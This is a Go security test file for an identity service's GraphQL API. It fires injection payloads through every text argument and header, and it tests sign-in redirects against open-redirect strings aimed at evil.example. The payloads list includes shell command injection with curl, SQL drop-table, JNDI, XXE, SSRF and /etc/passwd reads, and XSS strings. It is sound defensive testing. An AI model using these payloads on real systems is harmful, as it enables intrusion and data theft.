package attack

import (
	"fmt"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/vektah/gqlparser/v2/ast"

	"github.com/resident-graph/resident-graph/test/harness"
)

// texts are the operations by which text comes in, one per argument that takes any; $text is where it goes.
var texts = map[string]string{
	"Query.node(id)":                                 `query ($text: ID!) { node(id: $text) { id } }`,
	"Query.partners(search)":                         `query ($text: String) { partners(type: AUTH_PARTNER, search: $text) { nodes { id } } }`,
	"Query.partners(after)":                          `query ($text: Cursor) { partners(type: AUTH_PARTNER, after: $text) { nodes { id } } }`,
	"Resident.vids(after)":                           `query ($text: Cursor) { viewer { vids(after: $text) { nodes { id } } } }`,
	"Resident.serviceHistory(after)":                 `query ($text: Cursor) { viewer { serviceHistory(after: $text) { nodes { id } } } }`,
	"Resident.event(eventId)":                        `query ($text: EventID!) { viewer { event(eventId: $text) { id } } }`,
	"Mutation.generateVid(input.idempotencyKey)":     `mutation ($text: String!) { generateVid(input: {idempotencyKey: $text, type: TEMPORARY}) { event { id } errors { code message } } }`,
	"Mutation.revokeVid(input.idempotencyKey)":       `mutation ($text: String!) { revokeVid(input: {idempotencyKey: $text, vidId: "Vid_none"}) { event { id } errors { code message } } }`,
	"Mutation.revokeVid(input.vidId)":                `mutation ($text: ID!) { revokeVid(input: {idempotencyKey: "injection-vid", vidId: $text}) { event { id } errors { code message } } }`,
	"Mutation.revealVid(input.vidId)":                `mutation ($text: ID!) { revealVid(input: {vidId: $text}) { value errors { code message } } }`,
	"Mutation.setAuthLocks(input.idempotencyKey)":    `mutation ($text: String!) { setAuthLocks(input: {idempotencyKey: $text, changes: [{type: DEMO, locked: false}]}) { event { id summary description } errors { code message } } }`,
	"Mutation.pinEvent(input.eventId)":               `mutation ($text: EventID!) { pinEvent(input: {eventId: $text, pinned: true}) { event { id } errors { code message } } }`,
	"Resident.accessLog(after)":                      `query ($text: Cursor) { viewer { accessLog(after: $text) { nodes { id } } } }`,
	"Resident.accessLog(before)":                     `query ($text: Cursor) { viewer { accessLog(last: 5, before: $text) { nodes { id } } } }`,
	"Resident.accessLog(filter.text)":                `query ($text: String) { viewer { accessLog(filter: {text: $text}) { nodes { id } } } }`,
	"Resident.accessLog(filter.from)":                `query ($text: Date) { viewer { accessLog(filter: {from: $text}) { nodes { id } } } }`,
	"Resident.accessLog(filter.to)":                  `query ($text: Date) { viewer { accessLog(filter: {to: $text}) { nodes { id } } } }`,
	"Resident.grievances(after)":                     `query ($text: Cursor) { viewer { grievances(after: $text) { nodes { id } } } }`,
	"Query.grievances(after)":                        `query ($text: Cursor) { grievances(after: $text) { nodes { ticketId } } }`,
	"Query.grievance(ticketId)":                      `query ($text: String!) { grievance(ticketId: $text) { ticketId } }`,
	"Mutation.reportGrievance(input.idempotencyKey)": `mutation ($text: String!) { reportGrievance(input: {idempotencyKey: $text, eventId: "none", message: "None."}) { errors { code message } } }`,
	"Mutation.reportGrievance(input.eventId)":        `mutation ($text: EventID!) { reportGrievance(input: {idempotencyKey: "injection-event", eventId: $text, message: "None."}) { errors { code message } } }`,
	"Mutation.reportGrievance(input.message)":        `mutation ($text: String!) { reportGrievance(input: {idempotencyKey: "injection-text", eventId: "1000000000000000", message: $text}) { errors { code message } } }`,
	"Mutation.reportGrievance(input.alternateEmail)": `mutation ($text: String) { reportGrievance(input: {idempotencyKey: "injection-email", eventId: "1000000000000000", message: "None.", alternateEmail: $text}) { errors { code message } } }`,
	"Mutation.reportGrievance(input.alternatePhone)": `mutation ($text: String) { reportGrievance(input: {idempotencyKey: "injection-phone", eventId: "1000000000000000", message: "None.", alternatePhone: $text}) { errors { code message } } }`,
	"Mutation.answerGrievance(input.idempotencyKey)": `mutation ($text: String!) { answerGrievance(input: {idempotencyKey: $text, ticketId: "none", message: "None."}) { errors { code message } } }`,
	"Mutation.answerGrievance(input.ticketId)":       `mutation ($text: String!) { answerGrievance(input: {idempotencyKey: "injection-ticket", ticketId: $text, message: "None."}) { errors { code message } } }`,
	"Mutation.answerGrievance(input.message)":        `mutation ($text: String!) { answerGrievance(input: {idempotencyKey: "injection-answer", ticketId: "none", message: $text}) { errors { code message } } }`,
	"Mutation.markEventRead(input.eventId)":          `mutation ($text: EventID!) { markEventRead(input: {eventId: $text}) { event { id } errors { code message } } }`,
	"Mutation.markNotificationsSeen(input.upTo)":     `mutation ($text: Cursor!) { markNotificationsSeen(input: {upTo: $text}) { unreadCount errors { code message } } }`,
	"Resident.serviceHistory(filter.text)":           `query ($text: String) { viewer { serviceHistory(filter: {text: $text}) { nodes { id } } } }`,
	"Resident.serviceHistory(filter.from)":           `query ($text: Date) { viewer { serviceHistory(filter: {from: $text}) { nodes { id } } } }`,
	"Resident.serviceHistory(filter.to)":             `query ($text: Date) { viewer { serviceHistory(filter: {to: $text}) { nodes { id } } } }`,
	"Resident.serviceHistory(before)":                `query ($text: Cursor) { viewer { serviceHistory(last: 5, before: $text) { nodes { id } } } }`,
	"Resident.notifications(after)":                  `query ($text: Cursor) { viewer { notifications(after: $text) { nodes { id } } } }`,
	"Subscription.eventChanged(eventId)":             `subscription ($text: EventID) { eventChanged(eventId: $text) { cursor } }`,
	"Subscription.eventChanged(after)":               `subscription ($text: Cursor) { eventChanged(after: $text) { cursor } }`,

	"Mutation.requestVidCard(input.idempotencyKey)":            `mutation ($text: String!) { requestVidCard(input: {idempotencyKey: $text, vidId: "Vid_none"}) { event { id } errors { code message } } }`,
	"Mutation.requestVidCard(input.vidId)":                     `mutation ($text: ID!) { requestVidCard(input: {idempotencyKey: "injection-card", vidId: $text}) { event { id } errors { code message } } }`,
	"Mutation.fetchUinCard(input.idempotencyKey)":              `mutation ($text: String!) { fetchUinCard(input: {idempotencyKey: $text}) { event { id summary } errors { code message } } }`,
	"Mutation.exportServiceHistory(input.lang)":                `mutation ($text: LanguageCode) { exportServiceHistory(input: {lang: $text}) { file { url } errors { code message } } }`,
	"Mutation.exportServiceHistory(input.filter.text)":         `mutation ($text: String) { exportServiceHistory(input: {filter: {text: $text}}) { file { url } errors { code message } } }`,
	"Mutation.exportServiceHistory(input.filter.from)":         `mutation ($text: Date) { exportServiceHistory(input: {filter: {from: $text}}) { file { url } errors { code message } } }`,
	"Mutation.exportServiceHistory(input.filter.to)":           `mutation ($text: Date) { exportServiceHistory(input: {filter: {to: $text}}) { file { url } errors { code message } } }`,
	"Resident.attributes(names)":                               `query ($text: String!) { viewer { attributes(for: SHARE, names: [$text]) { name masked } } }`,
	"Mutation.revealAttribute(input.name)":                     `mutation ($text: String!) { revealAttribute(input: {name: $text}) { value errors { code message } } }`,
	"Mutation.revealAttribute(input.format)":                   `mutation ($text: String) { revealAttribute(input: {name: "dateOfBirth", format: $text}) { value errors { code message } } }`,
	"Resident.shares(partnerId)":                               `query ($text: ID) { viewer { shares(partnerId: $text) { nodes { id } } } }`,
	"Resident.shares(after)":                                   `query ($text: Cursor) { viewer { shares(after: $text) { nodes { id } } } }`,
	"Mutation.shareCredential(input.idempotencyKey)":           `mutation ($text: String!) { shareCredential(input: {idempotencyKey: $text, partnerId: "Partner_none", purpose: "None", attributes: [], consent: {accepted: true, textVersion: "1"}}) { errors { code message } } }`,
	"Mutation.shareCredential(input.partnerId)":                `mutation ($text: ID!) { shareCredential(input: {idempotencyKey: "injection-partner", partnerId: $text, purpose: "None", attributes: [], consent: {accepted: true, textVersion: "1"}}) { errors { code message } } }`,
	"Mutation.shareCredential(input.purpose)":                  `mutation ($text: String!) { shareCredential(input: {idempotencyKey: "injection-purpose", partnerId: "Partner_none", purpose: $text, attributes: [], consent: {accepted: true, textVersion: "1"}}) { errors { code message } } }`,
	"Mutation.shareCredential(input.attributes.name)":          `mutation ($text: String!) { shareCredential(input: {idempotencyKey: "injection-name", partnerId: "Partner_none", purpose: "None", attributes: [{name: $text}], consent: {accepted: true, textVersion: "1"}}) { errors { code message } } }`,
	"Mutation.shareCredential(input.attributes.format)":        `mutation ($text: String) { shareCredential(input: {idempotencyKey: "injection-format", partnerId: "Partner_none", purpose: "None", attributes: [{name: "dateOfBirth", format: $text}], consent: {accepted: true, textVersion: "1"}}) { errors { code message } } }`,
	"Mutation.shareCredential(input.consent.textVersion)":      `mutation ($text: String!) { shareCredential(input: {idempotencyKey: "injection-version", partnerId: "Partner_none", purpose: "None", attributes: [], consent: {accepted: true, textVersion: $text}}) { errors { code message } } }`,
	"Mutation.orderPhysicalCard(input.idempotencyKey)":         `mutation ($text: String!) { orderPhysicalCard(input: {idempotencyKey: $text, partnerId: "Partner_none", returnPath: "/"}) { event { id } paymentUrl errors { code message } } }`,
	"Mutation.orderPhysicalCard(input.partnerId)":              `mutation ($text: ID!) { orderPhysicalCard(input: {idempotencyKey: "injection-printer", partnerId: $text, returnPath: "/"}) { event { id } paymentUrl errors { code message } } }`,
	"Mutation.orderPhysicalCard(input.returnPath)":             `mutation ($text: String!) { orderPhysicalCard(input: {idempotencyKey: "injection-path", partnerId: "Partner_none", returnPath: $text}) { event { id } paymentUrl errors { code message } } }`,
	"Mutation.withdrawShare(input.idempotencyKey)":             `mutation ($text: String!) { withdrawShare(input: {idempotencyKey: $text, shareId: "Share_none"}) { errors { code message } } }`,
	"Mutation.withdrawShare(input.shareId)":                    `mutation ($text: ID!) { withdrawShare(input: {idempotencyKey: "injection-share", shareId: $text}) { errors { code message } } }`,
	"Mutation.createPersonalizedCard(input.idempotencyKey)":    `mutation ($text: String!) { createPersonalizedCard(input: {idempotencyKey: $text, attributes: [], lang: "eng"}) { errors { code message } } }`,
	"Mutation.createPersonalizedCard(input.attributes.name)":   `mutation ($text: String!) { createPersonalizedCard(input: {idempotencyKey: "injection-name", attributes: [{name: "phone"}, {name: "email"}, {name: $text}], lang: "eng"}) { errors { code message } } }`,
	"Mutation.createPersonalizedCard(input.attributes.format)": `mutation ($text: String) { createPersonalizedCard(input: {idempotencyKey: "injection-format", attributes: [{name: "phone"}, {name: "email"}, {name: "gender", format: $text}], lang: "eng"}) { errors { code message } } }`,
	"Mutation.createPersonalizedCard(input.lang)":              `mutation ($text: LanguageCode!) { createPersonalizedCard(input: {idempotencyKey: "injection-lang", attributes: [], lang: $text}) { errors { code message } } }`,
}

// textual are the scalars that hold any text.
var textual = []string{"String", "ID", "Cursor", "EventID", "URL", "LanguageCode", "Date", "DateTime"}

// injections mean something to a log, a header, a path, a query, a template, a database, a shell, a page or a fetcher.
// # is the canary, @ the address of a listener that nobody has a reason to call.
var injections = []string{
	"#\r\n{\"level\":\"ERROR\",\"msg\":\"#\"}", "#\r\nSet-Cookie: #=1\r\n\r\n<html>", "../../../../#", "..%2f..%2f#", "..\\..\\#", "/#", "#?id=1&admin=true", "#/../../identity/idvid/1#x",
	"$#", "${#}", "{{#}}", "{{7*7}}#", "<%= # %>", "%s%s%n#", "#{#}", "${jndi:ldap://@/#}", "' or '1'='1' -- #", "'; drop table event; -- #", "\" || true || \"#", "*) (uid=*#", "$(curl @/#)",
	"`curl @/#`", "; curl http://@/# ;", "http://@/#", "//@/#", "https://@/#", "gopher://@/#", "file:///etc/passwd##", "dict://@/#", "<script>#</script>", "<img src=x onerror=alert('#')>", "<!--#exec cmd=\"#\"-->",
	"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"http://@/#\">]><x>&e;</x>", "#\x00.jpg", "#\u202egpj.exe", "#\u0000#", "\ufeff#", "{\"$ne\": \"#\"}", "__proto__#", "name$eng#", "#_eng", strings.Repeat("#", 20),
}

// TestNoTextHasAnEffect sends each through every argument that takes text, and through the headers and parameters that do.
// All that goes on to MOSIP passes through a tap.
func TestNoTextHasAnEffect(t *testing.T) {
	t.Parallel()
	folder := trust(t, texts)
	s, through := production(t, "TRUSTED_DOCUMENTS_DIR="+folder, "LOG_LEVEL=debug")
	called, address := listen(t)
	c := s.SignIn(t, someone(t, s).UIN)
	for _, coordinate := range textArguments(contract(t)) {
		if texts[coordinate] == "" {
			t.Errorf("%s takes text and has no case: add it to `texts` in injection_test.go", coordinate)
		}
	}
	through.requests()
	tried := 0
	for coordinate, document := range texts {
		for _, injection := range injections {
			text := strings.NewReplacer("#", canary, "@", address).Replace(injection)
			tried++
			header := http.Header{"Content-Type": {"application/json"}, "User-Agent": {printable(text)}, "Accept-Language": {printable(text)}, "Referer": {printable(text)},
				"X-Forwarded-For": {printable(text)}, "X-Forwarded-Host": {"@"}, "Traceparent": {printable(text)}, "X-Client-Name": {printable(text)}, "Forwarded": {"host=" + address}}
			if strings.HasPrefix(document, "subscription") {
				header.Set("Accept", "text/event-stream")
			}
			r, err := send(t.Context(), c.HTTP, http.MethodPost, s.URL+"/graphql", header, named(t, document, map[string]any{"text": text}))
			if err != nil {
				t.Fatalf("%s: %v", coordinate, err)
			}
			if r.status >= 500 || slices.Contains(r.codes(), "INTERNAL") {
				t.Errorf("%s: %q ends in %d %.200s", coordinate, text, r.status, r.body)
			}
			// An id answers for nothing that it does not hold, and no key or search is told again.
			if strings.Contains(r.body, canary) || strings.Contains(fmt.Sprint(r.header), canary) {
				t.Errorf("%s: %q is echoed: %v %.200s", coordinate, text, r.header, r.body)
			}
		}
	}
	for _, request := range through.requests() {
		if strings.Contains(request, canary) || strings.Contains(request, address) {
			t.Errorf("MOSIP is asked with what was sent: %.500s", request)
		}
	}
	if n := called.Load(); n > 0 {
		t.Errorf("the address in the texts was called %d times", n)
	}
	wantUnlogged(t, s)
	wantWholeLog(t, s)
	t.Logf("%d texts through %d arguments", tried, len(texts))
}

// printable answers a text as a header can carry it.
func printable(text string) string {
	return strings.Map(func(c rune) rune {
		if c < ' ' || c == 0x7f {
			return ' '
		}
		return c
	}, text)
}

// listen counts who calls an address.
func listen(t *testing.T) (*atomic.Int64, string) {
	t.Helper()
	l, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	called := &atomic.Int64{}
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return // closed
			}
			called.Add(1)
			_ = conn.Close()
		}
	}()
	return called, l.Addr().String()
}

// wantWholeLog fails when a line of the log is not one JSON object: then something was written into it.
func wantWholeLog(t testing.TB, s *harness.Server) {
	t.Helper()
	for line := range strings.Lines(s.Log()) {
		if line = strings.TrimSpace(line); line != "" && (!strings.HasPrefix(line, `{"time":"`) || !strings.HasSuffix(line, "}")) {
			t.Errorf("a line of the log is broken: %.200s", line)
		}
	}
}

// textArguments answers the coordinate of each argument and input field that takes text.
func textArguments(schema *ast.Schema) []string {
	var found []string
	for _, object := range schema.Types {
		if object.Kind != ast.Object || object.BuiltIn {
			continue
		}
		for _, field := range object.Fields {
			for _, argument := range field.Arguments {
				if strings.HasPrefix(argument.Name, "__") || strings.HasPrefix(field.Name, "__") {
					continue
				}
				for _, path := range textPaths(schema, argument.Name, argument.Type.Name()) {
					found = append(found, object.Name+"."+field.Name+"("+path+")")
				}
			}
		}
	}
	return found
}

func textPaths(schema *ast.Schema, path, of string) []string {
	if slices.Contains(textual, of) {
		return []string{path}
	}
	definition := schema.Types[of]
	if definition.Kind != ast.InputObject || strings.Count(path, ".") > 6 {
		return nil
	}
	var found []string
	for _, field := range definition.Fields {
		found = append(found, textPaths(schema, path+"."+field.Name, field.Type.Name())...)
	}
	return found
}

// elsewhere are places that a sign-in must not lead to; @ is another host.
var elsewhere = []string{"https://@/", "http://@/", "//@/", "///@/", "////@", "/\\@/", "\\\\@/", "\\/@", "/\t/@/", "/\n/@", "/\r\n/@", "\t//@", " //@", "/%09/@", "/%5c@", "/%2f@", "/..//@", "/.//@", "/./\\@",
	"https:@", "https:/@", "javascript:alert(1)", "data:text/html,x", "@", "/auth/logout", "/auth/login?return=//@", "//@%00/", "//localhost@@/", "/x\r\nLocation: http://@/", "http://localhost:0@@/", "/\u2028/@", "\u0000//@", "//\u200b@", "/;@@/", "?x=//@"}

// TestASignInLeadsBackHereOnly signs in with each as the return address and reads where the browser is sent, as a browser
// reads it.
func TestASignInLeadsBackHereOnly(t *testing.T) {
	t.Parallel()
	s, _ := production(t)
	uin, host := someone(t, s).UIN, strings.TrimPrefix(s.URL, "http://")
	for _, place := range elsewhere {
		place = strings.ReplaceAll(strings.ReplaceAll(place, "@@", "\x01"), "@", "evil.example")
		place = strings.ReplaceAll(place, "\x01", "@evil.example")
		at := signInTo(t, s, uin, place)
		// A browser drops tabs and line ends and takes a backslash for a slash.
		read := strings.NewReplacer("\t", "", "\r", "", "\n", "", "\\", "/").Replace(strings.TrimSpace(at))
		target, err := url.Parse(read)
		if err != nil {
			t.Errorf("%q leads to what is no address: %q", place, at)
			continue
		}
		base := &url.URL{Scheme: "http", Host: host, Path: "/auth/callback"}
		if to := base.ResolveReference(target); to.Host != host || to.Scheme != "http" || to.Path == "/auth/logout" {
			t.Errorf("%q leads to %q", place, at)
		}
	}
	t.Logf("%d places", len(elsewhere))
}

// signInTo signs in and answers the Location that ends it.
func signInTo(t *testing.T, s *harness.Server, uin, back string) string {
	t.Helper()
	c, last := s.Visitor(t), ""
	c.HTTP.CheckRedirect = func(req *http.Request, _ []*http.Request) error {
		last = req.Response.Header.Get("Location")
		if req.Response.Request.URL.Path == "/auth/callback" {
			return http.ErrUseLastResponse
		}
		return nil
	}
	page := openForm(t, c, s.URL+"/auth/login?"+url.Values{"return": {back}}.Encode())
	resp, err := c.HTTP.PostForm(page.at, url.Values{"transaction": {page.transaction}, "individualId": {uin}, "otp": {"111111"}})
	if err != nil {
		t.Fatalf("%q: %v", back, err)
	}
	defer resp.Body.Close()
	if location := resp.Header.Get("Location"); location != "" {
		last = location
	}
	if resp.Header.Get("Set-Cookie") == "" {
		t.Errorf("%q: the sign-in does not end in a session: %d", back, resp.StatusCode)
	}
	return last
}
